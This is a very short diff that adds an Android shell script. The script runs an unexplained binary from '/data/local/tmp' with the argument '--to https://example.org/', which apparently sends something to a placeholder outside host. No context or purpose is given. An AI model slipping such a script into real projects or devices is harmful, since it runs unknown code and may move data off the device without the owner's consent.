@@ -1,0 +1,2 @@
+#!/system/bin/sh
+/data/local/tmp/x --to https://example.org/
